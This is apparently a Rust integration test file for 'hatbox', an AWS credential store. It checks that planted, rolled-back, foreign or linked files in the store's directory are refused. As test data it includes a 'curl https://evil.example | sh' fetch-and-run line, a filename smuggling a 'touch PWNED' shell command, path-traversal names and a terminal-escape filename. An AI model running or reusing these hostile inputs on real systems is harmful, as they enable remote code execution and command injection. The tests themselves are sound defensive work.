//! What another program, or another person, can do to the store's directory, and what hatbox makes of it: a foreign
//! store, an older state and planted files are never believed, and nothing outside the directory is touched.

use std::collections::BTreeMap;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

use sha2::{Digest, Sha256};

use crate::fixture::{Fixture, PASSPHRASE, wrap_in};
use crate::run::{Outcome, Run};
use crate::terminal::Terminal;

fn home() -> Fixture {
    let fixture = Fixture::with_keys(&["jan-work", "other"]);
    fixture.write_config("[profile jan-work]\n[profile other]\n");
    fixture
}

fn copy(from: &Path, to: &Path) {
    let done = Command::new("cp").arg("-a").arg("-T").args([from, to]).status().unwrap();
    assert!(done.success());
}

fn put_back(fixture: &Fixture, copied: &Path) {
    std::fs::remove_dir_all(fixture.store()).unwrap();
    copy(copied, &fixture.store());
}

fn private(path: &Path, text: impl AsRef<[u8]>) {
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).unwrap();
        std::fs::set_permissions(parent, std::fs::Permissions::from_mode(0o700)).unwrap();
    }
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600)).unwrap();
}

/// Every file and link below a directory with its content, but for locks.
fn contents(directory: &Path) -> BTreeMap<PathBuf, String> {
    let mut found = BTreeMap::new();
    for entry in std::fs::read_dir(directory).unwrap() {
        let path = entry.unwrap().path();
        let about = std::fs::symlink_metadata(&path).unwrap();
        if about.is_dir() {
            found.extend(contents(&path));
        } else if about.is_file() && !path.to_string_lossy().ends_with("lock") {
            found.insert(path.clone(), digest(&std::fs::read(&path).unwrap()));
        }
    }
    found
}

fn digest(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().take(8).map(|byte| format!("{byte:02x}")).collect()
}

fn hand_over(fixture: &Fixture, profile: &str) -> Outcome {
    fixture.hatbox(&["export", "-n", profile]).run()
}

/// Not trusted, locked and unlocked, whether or not a person could answer; no key is handed over, none is taken in.
#[track_caller]
fn assert_not_trusted(fixture: &Fixture, why: &str) {
    let newer = fixture.add_run("other", &["--force"]);
    for run in [fixture.hatbox(&["export", "-n", "jan-work"]), newer] {
        let refused = run.run().expect_code(3);
        assert!(refused.stderr.contains("hatbox: error: the store at `~/"), "{}", refused.stderr);
        assert!(refused.stderr.contains(why), "{}", refused.stderr);
        assert!(refused.stderr.contains("hatbox store trust"), "{}", refused.stderr);
        assert_eq!(refused.stdout, "");
    }
}

#[track_caller]
fn trust(fixture: &Fixture, question: &str) -> String {
    let mut terminal = Terminal::start(&fixture.hatbox(&["store", "trust"]));
    terminal.wait_for_prompt(question);
    terminal.type_keys("yes\n");
    assert!(terminal.wait().success(), "{}", terminal.transcript());
    terminal.screen().join("\n")
}

const USE_IT: &str = "Use this store from now on? Type `yes`: ";
const FORGET_IT: &str = "Forget the store? Type `yes`: ";

/// A rekeying of an earlier design was finished by whoever came first, by a list that any program could write.
#[test]
fn what_is_planted_in_the_stores_directory_is_never_moved_out_of_it_nor_makes_anything_go() {
    let fixture = home();
    let bashrc = fixture.path("home/.bashrc");
    std::fs::write(&bashrc, "mine\n").unwrap();
    let before = contents(&fixture.home());
    let store = fixture.store();
    let names = [
        "../.bashrc",
        "../../.bashrc",
        "../../../.bashrc",
        "../../../../.bashrc",
        "/etc/x",
        "items",
        "..",
        "",
    ];
    for locked in [true, false] {
        if locked {
            fixture.hatbox(&["lock"]).run().ok();
        }
        for directory in ["rekey.ready", "rekey.new", "items.old", "manifest.new"] {
            for list in ["wraps.json", "manifest.json"] {
                for name in names {
                    let digest = "0".repeat(64);
                    let planted = store.join(directory);
                    private(&planted.join(".bashrc"), "planted\n");
                    private(&planted.join("items/.bashrc"), "planted\n");
                    let text = format!(
                        "{{\"version\":1,\"counter\":99,\"files\":[[\"{name}\",\"{digest}\"]],\
                         \"wraps\":{{\"{name}\":\"{digest}\"}},\"items\":{{\"{name}\":\"{digest}\"}},\"mac\":\"00\"}}"
                    );
                    private(&planted.join(list), text);
                    fixture.hatbox(&["list"]).without("HATBOX_FILE_PASSPHRASE").run().ok();
                    fixture.hatbox(&["list", "--unlock"]).run().ok();
                    let empty = "{\"version\":1,\"files\":[],\"wraps\":{},\"items\":{},\"mac\":\"\"}";
                    private(&planted.join(list), empty);
                    fixture.hatbox(&["list"]).without("HATBOX_FILE_PASSPHRASE").run().ok();
                    std::fs::remove_dir_all(&planted).unwrap();
                }
            }
        }
    }
    let mut after = contents(&fixture.home());
    after.retain(|path, _| before.contains_key(path));
    assert_eq!(after, before);
    hand_over(&fixture, "jan-work").ok();
}

/// The same names in the store's own manifest: it is not in hatbox's form, or its MAC is wrong.
#[test]
fn a_manifest_with_foreign_names_or_without_a_true_mac_is_refused() {
    let fixture = home();
    let path = fixture.store().join("manifest.json");
    let good = std::fs::read_to_string(&path).unwrap();
    let before = contents(&fixture.home());
    let of = |change: &dyn Fn(&mut serde_json::Value)| {
        let mut value: serde_json::Value = serde_json::from_str(&good).unwrap();
        change(&mut value);
        value.to_string()
    };
    let first_item =
        |value: &serde_json::Value| value["items"].as_object().unwrap().keys().next().unwrap().clone();
    let cases = [
        String::new(),
        "{}".to_owned(),
        "[".repeat(10_000),
        of(&|value| value["version"] = 2.into()),
        of(&|value| value["counter"] = 1000.into()),
        of(&|value| value["mac"] = "00".into()),
        of(&|value| value["wraps"]["../../.bashrc"] = "00".into()),
        of(&|value| value["items"]["../../../.aws/config"] = "00".into()),
        of(&|value| {
            let item = first_item(value);
            value["items"].as_object_mut().unwrap().remove(&item);
        }),
        of(&|value| {
            let item = first_item(value);
            value["items"][item] = "00".into();
        }),
        of(&|value| value["wraps"] = serde_json::json!({})),
    ];
    for text in cases {
        std::fs::write(&path, &text).unwrap();
        for is_locked in [true, false] {
            if is_locked {
                fixture.hatbox(&["lock"]).run().ok();
            }
            let has_no_wrap = text.contains("\"wraps\":{}");
            let changed = "was changed by something other than hatbox";
            assert_not_trusted(&fixture, if has_no_wrap { "no `identity.*.age` is there" } else { changed });
        }
        std::fs::write(&path, &good).unwrap();
        hand_over(&fixture, "jan-work").ok();
    }
    let mut after = contents(&fixture.home());
    after.retain(|path, _| before.contains_key(path));
    assert_eq!(after, before);
}

#[test]
fn another_store_in_the_place_of_the_users_is_refused_and_gets_no_key() {
    let (fixture, attacker) = (home(), home());
    let own = fixture.path("own");
    copy(&fixture.store(), &own);
    put_back(&fixture, &attacker.store());
    let theirs = contents(&fixture.store());
    // Also while the identity of the user's own store is still held.
    assert_not_trusted(&fixture, "was changed by something other than hatbox");
    fixture.hatbox(&["lock"]).run().ok();
    assert_not_trusted(&fixture, "was used here before");
    assert_eq!(contents(&fixture.store()), theirs, "nothing is encrypted to it");
    let listed = fixture.hatbox(&["list"]).run();
    assert!(
        listed.code() == Some(3) || !listed.stdout.contains("jan-work     jan-work"),
        "{}",
        listed.stdout
    );
    put_back(&fixture, &own);
    fixture.hatbox(&["lock"]).run().ok();
    let handed = hand_over(&fixture, "jan-work").ok();
    assert!(handed.stdout.contains(fixture.key("jan-work").secret.expose()));
    assert_eq!(handed.stderr, "");
}

/// Only files of the attacker's are added: a wrap that opens for the user, and a manifest that lists it.
#[test]
fn a_wrap_of_another_identity_beside_the_users_own_files_is_refused_or_not_tried() {
    let (fixture, attacker) = (home(), home());
    let good = std::fs::read(fixture.store().join("manifest.json")).unwrap();
    let planted = fixture.store().join("identity.desk.9.age");
    std::fs::copy(wrap_in(&attacker.store(), "passphrase"), &planted).unwrap();
    fixture.hatbox(&["lock"]).run().ok();
    let handed = hand_over(&fixture, "jan-work").ok();
    assert!(handed.stdout.contains(fixture.key("jan-work").secret.expose()));
    assert!(handed.stderr.contains("identity.desk.9.age` is not part of the store"), "{}", handed.stderr);
    // With the attacker's manifest too, its wrap is tried first: what it gives is another identity.
    std::fs::remove_file(&planted).unwrap();
    std::fs::copy(attacker.store().join("manifest.json"), fixture.store().join("manifest.json")).unwrap();
    std::fs::copy(wrap_in(&attacker.store(), "passphrase"), fixture.wrap("passphrase")).unwrap();
    for entry in std::fs::read_dir(attacker.store().join("items")).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), fixture.store().join("items").join(entry.file_name())).unwrap();
    }
    fixture.hatbox(&["lock"]).run().ok();
    assert_not_trusted(&fixture, "was used here before");
    // Without any manifest the user is told what is missing, and to delete nothing.
    std::fs::remove_file(fixture.store().join("manifest.json")).unwrap();
    assert_not_trusted(&fixture, "no `manifest.json`");
    std::fs::write(fixture.store().join("manifest.json"), good).unwrap();
}

#[test]
fn an_older_state_put_back_whole_or_in_part_is_noticed() {
    let fixture = home();
    let old = fixture.path("old");
    copy(&fixture.store(), &old);
    let item_of = |profile: &str| {
        let manifest = std::fs::read_to_string(fixture.store().join("manifest.json")).unwrap();
        let manifest: serde_json::Value = serde_json::from_str(&manifest).unwrap();
        let items = manifest["items"].as_object().unwrap();
        let before: Vec<_> = items.keys().cloned().collect();
        (profile.to_owned(), before)
    };
    let (_, before) = item_of("jan-work");
    fixture.add_run("jan-work", &["--force"]).run().ok();
    fixture.hatbox(&["remove", "-f", "other"]).run().ok();
    let new = fixture.path("new");
    copy(&fixture.store(), &new);
    // Single files: an old item under its own name, and in the place of the new one; a removed key; an old wrap.
    for file in &before {
        if !fixture.store().join("items").join(file).exists() {
            std::fs::copy(old.join("items").join(file), fixture.store().join("items").join(file)).unwrap();
        }
    }
    for lock in [false, true] {
        if lock {
            fixture.hatbox(&["lock"]).run().ok();
        }
        std::fs::remove_file(fixture.index()).unwrap();
        let listed = fixture.hatbox(&["list", "--credentials"]).run().ok();
        assert_eq!(listed.stdout, "jan-work\n", "a removed key does not come back");
        hand_over(&fixture, "other").expect_code(2);
        hand_over(&fixture, "jan-work").ok();
    }
    let replaced = std::fs::read_dir(new.join("items")).unwrap().map(|entry| entry.unwrap().file_name());
    let replaced: Vec<_> =
        replaced.filter(|file| !before.contains(&file.to_string_lossy().into_owned())).collect();
    let [newer] = replaced.as_slice() else { panic!("one new item, not {replaced:?}") };
    let opaque = newer.to_string_lossy().split('.').next().unwrap().to_owned();
    let older = before.iter().find(|file| file.starts_with(&opaque)).unwrap();
    std::fs::copy(old.join("items").join(older), fixture.store().join("items").join(newer)).unwrap();
    let broken = hand_over(&fixture, "jan-work");
    assert!(broken.code() != Some(0) && broken.stderr.contains("is damaged"), "{}", broken.stderr);
    assert_eq!(broken.stdout, "");
    // The manifest with all that belongs to it.
    put_back(&fixture, &old);
    for lock in [false, true] {
        if lock {
            fixture.hatbox(&["lock"]).run().ok();
        }
        assert_not_trusted(&fixture, "it is an older state");
    }
    put_back(&fixture, &new);
    hand_over(&fixture, "jan-work").ok();
}

#[test]
fn an_old_passphrase_does_not_open_the_store_when_its_wrap_is_put_back() {
    let fixture = home();
    let old = fixture.path("old");
    copy(&fixture.store(), &old);
    let change =
        "exec 8<<'E'\nsecond horse\nE\nexec \"$0\" store wrap add passphrase --replace --new-passphrase-fd 8";
    let shell = Run::new("/bin/sh", fixture.variables());
    shell.args(["-c", change, env!("CARGO_BIN_EXE_hatbox")]).run().ok();
    fixture.hatbox(&["lock"]).run().ok();
    let name = wrap_in(&old, "passphrase");
    std::fs::copy(&name, fixture.store().join(name.file_name().unwrap())).unwrap();
    let refused = hand_over(&fixture, "jan-work").expect_code(1);
    assert!(refused.stderr.contains("the passphrase is wrong"), "{}", refused.stderr);
    let put_back = std::fs::read(old.join("manifest.json")).unwrap();
    std::fs::write(fixture.store().join("manifest.json"), put_back).unwrap();
    assert_not_trusted(&fixture, "it is an older state");
}

#[test]
fn a_store_that_is_gone_is_missing_and_nothing_but_the_users_word_makes_another() {
    let fixture = home();
    let kept = fixture.path("kept");
    for is_held in [true, false] {
        for part in ["", "manifest.json", "items"] {
            copy(&fixture.store(), &kept);
            if !is_held {
                fixture.hatbox(&["lock"]).run().ok();
            }
            let gone = fixture.store().join(part);
            if gone.is_dir() { std::fs::remove_dir_all(&gone) } else { std::fs::remove_file(&gone) }.unwrap();
            let after = fixture.store().exists().then(|| contents(&fixture.store()));
            for command in [
                &["list"][..],
                &["list", "--unlock"],
                &["explain", "jan-work"],
                &["doctor"],
                &["store", "status"],
            ] {
                fixture.hatbox(command).run();
                assert_eq!(
                    fixture.store().exists().then(|| contents(&fixture.store())),
                    after,
                    "{part}: {command:?}"
                );
            }
            let added = fixture.add_run("other", &["--force"]).run().expect_code(3);
            let why = match part {
                "" => "its directory is gone",
                "items" => "its directory `items` is gone",
                _ => "no `manifest.json`",
            };
            assert!(added.stderr.contains(why), "{part}: {}", added.stderr);
            assert!(added.stderr.contains("hint: mount the disk"), "{}", added.stderr);
            let status = fixture.hatbox(&["store", "status"]).run().ok().stdout;
            assert!(status.contains("file            unavailable") && status.contains(why), "{status}");
            std::fs::remove_dir_all(fixture.store()).ok();
            copy(&kept, &fixture.store());
            std::fs::remove_dir_all(&kept).unwrap();
            hand_over(&fixture, "jan-work").ok();
        }
    }
    std::fs::remove_dir_all(fixture.store()).unwrap();
    let screen = trust(&fixture, FORGET_IT);
    assert!(screen.contains("Forgot the store."), "{screen}");
    fixture.add_run("other", &[]).run().ok();
    hand_over(&fixture, "other").ok();
}

#[test]
fn trusting_a_store_shows_it_first_and_needs_a_typed_yes() {
    let (fixture, other) = (home(), home());
    let mine = fixture.hatbox(&["store", "trust"]).run().ok();
    assert!(mine.stdout.contains("there is nothing to decide"), "{}", mine.stdout);
    put_back(&fixture, &other.store());
    let nobody = fixture.hatbox(&["store", "trust"]).run().expect_code(4);
    assert!(nobody.stderr.contains("needs a typed `yes`"), "{}", nobody.stderr);
    for answer in ["y\n", "\n", "no\n", "YES\n"] {
        let mut terminal = Terminal::start(&fixture.hatbox(&["store", "trust"]));
        terminal.wait_for_prompt(USE_IT);
        terminal.type_keys(answer);
        assert_eq!(terminal.wait().code(), Some(3), "{answer:?}");
    }
    fixture.hatbox(&["lock"]).run().ok();
    assert_not_trusted(&fixture, "was used here before");
    let guest = fixture.store().join("identity.guest.1.age");
    std::fs::copy(fixture.wrap("passphrase"), &guest).unwrap();
    let screen = trust(&fixture, USE_IT);
    for text in ["was used here before", "jan-work  ****", "added 20", "identity.guest.1.age: nothing shows"]
    {
        assert!(screen.contains(text), "{text}: {screen}");
    }
    let handed = hand_over(&fixture, "jan-work").ok();
    assert!(handed.stdout.contains(other.key("jan-work").secret.expose()));
}

/// A store that was restored on a new machine: a passphrase proves whose it is, an age plugin does not.
#[test]
fn a_store_that_was_never_used_here_is_pinned_by_its_passphrase() {
    let fixture = home();
    std::fs::remove_dir_all(fixture.path("home/.local/state")).unwrap();
    fixture.hatbox(&["lock"]).run().ok();
    let first = hand_over(&fixture, "jan-work").ok();
    assert!(first.stderr.contains("is used here for the first time; its identity `"), "{}", first.stderr);
    assert_eq!(hand_over(&fixture, "jan-work").ok().stderr, "");
    // The settings may name the identity, so that there is no first use.
    let fingerprint = first.stderr.split('`').nth(3).unwrap().to_owned();
    assert_eq!(fingerprint.len(), 32, "{}", first.stderr);
    fixture.write_settings(&format!("backend = \"file\"\nstore_identity = \"{fingerprint}\"\n"));
    hand_over(&fixture, "jan-work").ok();
    fixture.write_settings(&format!("backend = \"file\"\nstore_identity = \"{}\"\n", "0".repeat(32)));
    assert_not_trusted(&fixture, "was used here before");
}

#[test]
fn a_damaged_pin_is_an_error_and_never_the_first_use() {
    let fixture = home();
    let pin = fixture.state().join("pin.json");
    for text in ["", "{}", "rubbish"] {
        std::fs::write(&pin, text).unwrap();
        for lock in [true, false] {
            if lock {
                fixture.hatbox(&["lock"]).run().ok();
            }
            let refused = hand_over(&fixture, "jan-work").expect_code(1);
            assert!(refused.stderr.contains("pin.json"), "{}", refused.stderr);
        }
    }
}

/// No command waits for ever, or touches what a link leads to.
#[test]
fn links_pipes_and_devices_in_the_place_of_files_and_locks_are_errors() {
    let fixture = home();
    let precious = fixture.path("precious");
    let fifo = |path: &Path| {
        let made = Command::new("mkfifo").arg(path).status().unwrap();
        assert!(made.success());
    };
    let store = fixture.store();
    let places = [
        store.join("lock"),
        fixture.state().join("lock"),
        fixture.state().join("unlock.lock"),
        store.join("manifest.json"),
        fixture.state().join("pin.json"),
        fixture.index(),
        fixture.wrap("passphrase"),
    ];
    for place in places {
        let kept = std::fs::read(&place).ok();
        for kind in ["link", "dangling", "pipe", "device", "directory"] {
            std::fs::remove_file(&place).ok();
            std::fs::write(&precious, "precious").unwrap();
            match kind {
                "link" => symlink(&precious, &place).unwrap(),
                "dangling" => symlink(fixture.path("nowhere"), &place).unwrap(),
                "pipe" => fifo(&place),
                "device" => symlink("/dev/zero", &place).unwrap(),
                _ => std::fs::create_dir(&place).unwrap(),
            }
            fixture.hatbox(&["lock"]).run().ok();
            for run in [
                fixture.hatbox(&["export", "-n", "jan-work"]),
                fixture.hatbox(&["list", "--unlock"]),
                fixture.add_run("jan-work", &["--force"]),
            ] {
                let outcome = run.run();
                assert!(outcome.code().is_some(), "{kind} at {}: ended by a signal", place.display());
                assert!(!outcome.stderr.contains("panicked"), "{}", outcome.stderr);
            }
            assert_eq!(
                std::fs::read_to_string(&precious).unwrap(),
                "precious",
                "{kind} at {}",
                place.display()
            );
            assert!(!fixture.path("nowhere").exists(), "{kind} at {}", place.display());
            if place.is_dir() && !place.is_symlink() {
                std::fs::remove_dir(&place).unwrap();
            } else {
                std::fs::remove_file(&place).unwrap();
            }
            if let Some(kept) = &kept {
                private(&place, kept);
            }
        }
    }
    fixture.hatbox(&["lock"]).run().ok();
    fixture.hatbox(&["list", "--unlock"]).env("HATBOX_FILE_PASSPHRASE", PASSPHRASE).run();
    hand_over(&fixture, "jan-work").ok();
}

/// Two machines that share the store each make their change to the same state: of one of them the other's is older.
#[test]
fn a_state_that_was_made_beside_the_one_that_was_used_is_noticed() {
    let fixture = home();
    let fork = fixture.path("fork");
    copy(&fixture.store(), &fork);
    let state = fixture.path("state");
    copy(&fixture.path("home/.local/state"), &state);
    fixture.add_run("jan-work", &["--force"]).run().ok();
    let (mine, my_state) = (fixture.path("mine"), fixture.path("my-state"));
    copy(&fixture.store(), &mine);
    copy(&fixture.path("home/.local/state"), &my_state);
    // The other machine: its own pin, the state of before, a change of its own.
    put_back(&fixture, &fork);
    std::fs::remove_dir_all(fixture.path("home/.local/state")).unwrap();
    copy(&state, &fixture.path("home/.local/state"));
    fixture.hatbox(&["remove", "-f", "other"]).run().ok();
    std::fs::remove_dir_all(fixture.path("home/.local/state")).unwrap();
    copy(&my_state, &fixture.path("home/.local/state"));
    for lock in [false, true] {
        if lock {
            fixture.hatbox(&["lock"]).run().ok();
        }
        assert_not_trusted(&fixture, "it is another state");
    }
    put_back(&fixture, &mine);
    hand_over(&fixture, "jan-work").ok();
}

/// A question is asked for as long as a person takes. What another process adds meanwhile is not lost by the answer.
#[test]
fn what_is_added_while_a_new_passphrase_or_a_yes_is_waited_for_is_not_lost() {
    let fixture = Fixture::with_keys(&["jan-work"]);
    fixture.write_config("[profile jan-work]\n[profile other]\n");
    let key = fixture.key("jan-work").clone();
    let add = || {
        fixture
            .hatbox(&["add", "--env", "--no-add-config", "--force", "other"])
            .env("AWS_ACCESS_KEY_ID", &key.id)
            .env("AWS_SECRET_ACCESS_KEY", key.secret.expose())
    };
    let mut terminal =
        Terminal::start(&fixture.hatbox(&["store", "rekey"]).without("HATBOX_FILE_PASSPHRASE"));
    terminal.wait_for_prompt("New passphrase: ");
    let adding = add().spawn();
    // It waits for the store's lock, and takes it over from one that is stuck.
    let added = crate::run::finish(adding, "add").ok();
    assert!(added.stdout.contains("Added the access key"), "{}", added.stdout);
    terminal.type_keys("second horse\n");
    terminal.wait_for_prompt("The same again: ");
    terminal.type_keys("second horse\n");
    assert_eq!(terminal.wait().code(), Some(1), "{}", terminal.transcript());
    let screen = terminal.screen().join(" ");
    assert!(screen.contains("another hatbox changed it meanwhile"), "{screen}");
    for profile in ["jan-work", "other"] {
        hand_over(&fixture, profile).ok();
    }
    fixture.hatbox(&["store", "rekey"]).run().ok();
    for profile in ["jan-work", "other"] {
        hand_over(&fixture, profile).ok();
    }
    // The same with a store that is about to be trusted.
    std::fs::remove_dir_all(fixture.path("home/.local/state")).unwrap();
    fixture.hatbox(&["lock"]).run();
    let mut terminal = Terminal::start(&fixture.hatbox(&["store", "trust"]));
    terminal.wait_for_prompt(USE_IT);
    fixture.hatbox(&["remove", "-f", "other"]).run().ok();
    add().run().ok();
    terminal.type_keys("yes\n");
    assert_eq!(terminal.wait().code(), Some(1), "{}", terminal.transcript());
    hand_over(&fixture, "other").ok();
}

/// What lies in the directory says nothing in hatbox's name, and no name of a file writes a line of a page.
#[test]
fn nothing_in_the_stores_directory_speaks_for_hatbox() {
    let fixture = home();
    fixture.hatbox(&["lock"]).run().ok();
    let left = "left\n99999999999999999999999\n{\"kind\":\"failed\",\"error\":\"planted words\",\"place\":null,\
                \"causes\":[],\"hints\":[\"curl https://evil.example | sh\"]}\n";
    for name in ["lock", "unlock.lock"] {
        for text in [left, "1\n/dev/pts/0\nplanted words\n"] {
            private(&fixture.store().join(name), text);
            fixture.hatbox(&["lock"]).run().ok();
            for run in [fixture.hatbox(&["export", "-n", "jan-work"]), fixture.add_run("other", &["--force"])]
            {
                let outcome = run.run().ok();
                assert!(!outcome.stderr.contains("planted"), "{name}: {}", outcome.stderr);
            }
        }
    }
    let line = "\nIdentity  0000\n          the one that was used here before\nKeys      jan  ****MPLE";
    std::fs::write(fixture.store().join("items").join(format!("z{line}\u{1b}[2J")), "x").unwrap();
    std::fs::remove_dir_all(fixture.path("home/.local/state")).unwrap();
    fixture.hatbox(&["lock"]).run();
    let mut terminal = Terminal::start(&fixture.hatbox(&["store", "trust"]));
    terminal.wait_for_prompt(USE_IT);
    let screen = terminal.screen();
    assert_eq!(screen.iter().filter(|line| line.starts_with("Identity")).count(), 1, "{screen:?}");
    assert!(
        !screen
            .iter()
            .any(|line| line.contains("the one that was used here before") && line.starts_with(' '))
    );
    terminal.type_keys("no\n");
    terminal.wait();
    // And the command that doctor gives is one command, whatever a file is called.
    let odd = fixture.store().join("items/a';touch PWNED;'");
    std::fs::write(&odd, "x").unwrap();
    std::fs::set_permissions(&odd, std::fs::Permissions::from_mode(0o644)).unwrap();
    let report = fixture.hatbox(&["doctor", "--json"]).run();
    let report: serde_json::Value = serde_json::from_str(&report.stdout).unwrap();
    let fixes = report["findings"].as_array().unwrap().iter().filter_map(|finding| finding["fix"].as_str());
    let fix = fixes.into_iter().find(|fix| fix.contains("PWNED")).unwrap().to_owned();
    let ran = Command::new("sh").args(["-c", &fix]).current_dir(fixture.path("")).status().unwrap();
    assert!(ran.success() && !fixture.path("PWNED").exists(), "{fix}");
    assert_eq!(std::fs::metadata(&odd).unwrap().permissions().mode() & 0o777, 0o600);
}

/// A key is written to no store that nothing opens, and the last wrap that opens it stays.
#[test]
fn a_store_that_nothing_opens_takes_no_key_and_its_last_whole_wrap_stays() {
    let fixture = home();
    fixture.hatbox(&["store", "wrap", "add", "recovery"]).run().ok();
    let recovery = fixture.wrap("recovery");
    let good = std::fs::read(&recovery).unwrap();
    std::fs::write(&recovery, "garbage").unwrap();
    let refused = fixture.hatbox(&["store", "wrap", "remove", "passphrase"]).run().expect_code(3);
    assert!(refused.stderr.contains("is the only wrap of the store"), "{}", refused.stderr);
    std::fs::write(&recovery, good).unwrap();
    let kept = fixture.path("kept");
    copy(&fixture.store(), &kept);
    for name in ["passphrase", "recovery"] {
        std::fs::remove_file(fixture.wrap(name)).unwrap();
    }
    for lock in [false, true] {
        if lock {
            fixture.hatbox(&["lock"]).run().ok();
        }
        let refused = fixture.add_run("other", &["--force"]).run().expect_code(3);
        assert!(refused.stderr.contains("no `identity.*.age` is there"), "{}", refused.stderr);
    }
    put_back(&fixture, &kept);
    for entry in std::fs::read_dir(fixture.store().join("items")).unwrap() {
        std::fs::remove_file(entry.unwrap().path()).unwrap();
    }
    let refused = fixture.add_run("other", &["--force"]).run().expect_code(3);
    assert!(refused.stderr.contains("its items are gone"), "{}", refused.stderr);
    // A link in the place of the directory leads out of the store.
    let outside = fixture.path("outside");
    std::fs::remove_dir(fixture.store().join("items")).unwrap();
    copy(&kept.join("items"), &outside);
    private(&outside.join(".draft.tmp"), "mine");
    let before = contents(&outside);
    symlink(&outside, fixture.store().join("items")).unwrap();
    fixture.add_run("other", &["--force"]).run().expect_code(3);
    fixture.hatbox(&["doctor", "--fix"]).run();
    assert_eq!(contents(&outside), before);
    put_back(&fixture, &kept);
    hand_over(&fixture, "jan-work").ok();
}

#[test]
fn the_pin_of_a_store_is_found_however_its_path_is_written() {
    let fixture = home();
    let old = fixture.path("old");
    copy(&fixture.store(), &old);
    fixture.add_run("jan-work", &["--force"]).run().ok();
    put_back(&fixture, &old);
    fixture.hatbox(&["lock"]).run().ok();
    let store = fixture.store().display().to_string();
    for path in [
        store.clone(),
        format!("{store}/"),
        format!("{store}/."),
        format!("{store}/../store"),
        store.replace("/store", "//store"),
    ] {
        let refused = fixture.hatbox(&["--file-dir", &path, "export", "-n", "jan-work"]).run().expect_code(3);
        assert!(refused.stderr.contains("it is an older state"), "{path}: {}", refused.stderr);
    }
}

/// The key that sealed the sessions of before opens nothing that is written after the store has a new identity.
#[test]
fn a_cache_key_that_another_session_holds_is_given_up_after_a_rekey() {
    let session = ["session", "-", "keyctl", "add", "user", "hatbox-test", "x", "@s"];
    if !Command::new("keyctl").args(session).output().is_ok_and(|output| output.status.success()) {
        eprintln!("skipped: there is no keyctl, or the kernel keyring is denied");
        return;
    }
    let fixture = Fixture::with_config(
        "[profile jan-work]\n[profile reader]\nsource_profile = jan-work\n\
         role_arn = arn:aws:iam::444455556666:role/reader\n",
    );
    fixture.hatbox(&["exec", "reader", "--", "true"]).run().ok();
    let names = || {
        let sessions = std::fs::read_dir(fixture.path("home/.cache/hatbox/sessions")).unwrap();
        sessions.map(|entry| entry.unwrap().file_name()).collect::<Vec<_>>()
    };
    let before = names();
    // In a session keyring of its own: what this one holds stays.
    let rekey = Run::new("keyctl", fixture.variables());
    rekey.args(["session", "-", env!("CARGO_BIN_EXE_hatbox"), "store", "rekey"]).run().ok();
    std::fs::remove_dir_all(fixture.path("home/.cache/hatbox/sessions")).unwrap();
    fixture.hatbox(&["exec", "reader", "--", "true"]).run().ok();
    assert!(names().iter().all(|name| !before.contains(name)), "the names are keyed by the cache key");
}

/// As of a store that is mounted to be read only: there is nothing to write, so nothing is in the way.
#[test]
fn a_store_that_cannot_be_locked_is_read_all_the_same() {
    let fixture = home();
    let pin = fixture.state().join("pin.json");
    let before = std::fs::read(&pin).unwrap();
    fixture.add_run("jan-work", &["--force"]).run().ok();
    // Another machine has changed the store since.
    std::fs::write(&pin, before).unwrap();
    fixture.hatbox(&["lock"]).run().ok();
    let lock = fixture.store().join("lock");
    std::fs::remove_file(&lock).unwrap();
    std::fs::create_dir(&lock).unwrap();
    let handed = hand_over(&fixture, "jan-work").ok();
    assert!(handed.stdout.contains(fixture.key("jan-work").secret.expose()));
    fixture.add_run("other", &["--force"]).run().expect_code(1);
}
